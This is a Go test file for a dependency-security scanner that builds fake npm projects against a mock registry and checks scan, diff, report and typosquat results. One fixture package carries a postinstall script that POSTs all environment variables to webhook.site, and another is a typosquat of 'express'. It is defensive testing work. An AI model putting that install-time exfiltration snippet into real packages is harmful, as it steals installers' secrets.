package cli

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/registry/registrytest"
)

// fakeProject writes a project whose lockfile resolves to a fake registry:
// a harmless utility and (when evil) a synthetic, inert package whose
// install script posts the environment to an exfiltration service.
func fakeProject(t *testing.T, reg *registrytest.Server, dir string, evil bool) {
	t.Helper()
	pubs := []*registrytest.Published{reg.AddPackage("tiny-util", "1.0.0", nil, map[string]string{
		"index.js": "module.exports = (s, n) => String(s).padStart(n);\n",
	})}
	if evil {
		pubs = append(pubs, reg.AddPackage("evil-helper", "1.0.1", map[string]any{"scripts": map[string]any{"postinstall": "node setup.js"}}, map[string]string{
			"setup.js": "const https = require('https');\nconst req = https.request({ hostname: 'webhook.site', method: 'POST' });\nreq.end(JSON.stringify(process.env));\n",
		}))
	}
	deps := map[string]any{}
	pk := map[string]any{}
	for _, p := range pubs {
		deps[p.Name] = "^" + p.Version
		pk["node_modules/"+p.Name] = map[string]any{"version": p.Version, "resolved": p.TarballURL, "integrity": p.Integrity}
	}
	pk[""] = map[string]any{"name": "demo", "version": "1.0.0", "dependencies": deps}
	lock, _ := json.MarshalIndent(map[string]any{"name": "demo", "version": "1.0.0", "lockfileVersion": 3, "packages": pk}, "", "  ")
	pj, _ := json.MarshalIndent(map[string]any{"name": "demo", "version": "1.0.0", "dependencies": deps}, "", "  ")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"package-lock.json": lock, "package.json": pj} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// normalize replaces run-specific paths and the server address.
func normalize(s string, repl ...string) string {
	for i := 0; i+1 < len(repl); i += 2 {
		s = strings.ReplaceAll(s, repl[i], repl[i+1])
	}
	return s
}

func TestScanDiffReportTranscripts(t *testing.T) {
	reg := registrytest.New(t)
	// The registry's bulk advisory endpoint, in the format npm audit reads:
	// one (made-up) advisory against tiny-util.
	reg.Handle("/-/npm/v1/security/advisories/bulk", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"tiny-util":[{"id":1099999,"url":"https://github.com/advisories/GHSA-test-tiny-util","title":"Prototype pollution in tiny-util","severity":"moderate","vulnerable_versions":"<1.0.1","cwe":["CWE-1321"],"cvss":{"score":5.3,"vectorString":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:L/A:N"}}]}`)
	})
	root := t.TempDir()
	base, head := filepath.Join(root, "base"), filepath.Join(root, "head")
	fakeProject(t, reg, base, false)
	fakeProject(t, reg, head, true)
	// A typosquat of a popular name, as someone might be about to add it.
	reg.AddPackage("expresss", "1.0.0", nil, map[string]string{"index.js": "module.exports = require('express');\n"})
	cacheDir := filepath.Join(root, "cache")
	net := []string{"--registry", reg.URL, "--public-registry-host", "registry.npm.local", "--cache-dir", cacheDir}
	resultFile := filepath.Join(root, "result.json")
	sarifFile := filepath.Join(root, "out.sarif")
	tests := []struct {
		name string
		args []string
		code int
	}{
		{"scan_clean", append([]string{"scan", base}, net...), ExitOK},
		{"scan_malicious", append([]string{"scan", head, "--output", "json=" + resultFile, "--output", "sarif=" + sarifFile}, net...), ExitPolicy},
		{"scan_offline_warm", append([]string{"scan", head, "--offline", "-q"}, net...), ExitPolicy},
		{"scan_fail_on_none_still_fails_malicious", append([]string{"scan", head, "--fail-on", "none", "-q"}, net...), ExitPolicy},
		{"scan_bad_output", append([]string{"scan", head, "--output", "yaml=x.yaml"}, net...), ExitUsage},
		{"diff_lockfiles", append([]string{"diff", filepath.Join(base, "package-lock.json"), filepath.Join(head, "package-lock.json")}, net...), ExitPolicy},
		{"report_markdown", []string{"report", "--from", resultFile, "--format", "markdown"}, ExitPolicy},
		{"check_typosquat", append([]string{"check", "expresss"}, net...), ExitPolicy},
		{"report_missing", []string{"report", "--from", filepath.Join(root, "nope.json")}, ExitUsage},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stdout, stderr, code := run(t, map[string]string{"NO_COLOR": "1"}, tt.args...)
			if code != tt.code {
				t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", code, tt.code, stdout, stderr)
			}
			got := normalize(transcript(tt.args, stdout, stderr, code), root, "$ROOT", reg.URL, "$REGISTRY/", reg.Host(), "$REGISTRY_HOST")
			path := filepath.Join("testdata", "transcripts", tt.name+".txt")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update)", err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("transcript differs (-want +got):\n%s", diff)
			}
		})
	}
	// The SARIF written with --output is a SARIF 2.1.0 log with a result on
	// the lockfile.
	b, err := os.ReadFile(sarifFile)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `"version": "2.1.0"`) || !strings.Contains(string(b), "package-lock.json") {
		t.Errorf("SARIF output looks wrong: %.300s", b)
	}
}
